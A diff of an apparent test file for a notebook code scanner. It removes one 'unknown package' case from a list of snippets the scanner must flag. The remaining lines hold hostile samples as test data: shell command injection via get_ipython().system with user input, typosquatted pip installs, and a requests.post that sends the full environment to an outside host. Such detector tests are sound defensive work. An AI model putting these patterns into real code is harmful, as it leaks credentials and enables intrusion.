@@ -20,7 +20,6 @@ MUST_FIND = [
     ("get_ipython().system", "name = input()\nget_ipython().system(f'ls {name}')", "command-injection"),
     ("%pip near miss", "%pip install panads", "doubtful-package"),
     ("!pip near miss", "!pip install scikitlearn", "doubtful-package"),
-    ("%pip unknown", "%pip install magic-solver-2000", "doubtful-package"),
     (
         "environment sent",
         "import os, requests\nrequests.post('https://a.org', json=dict(os.environ))",
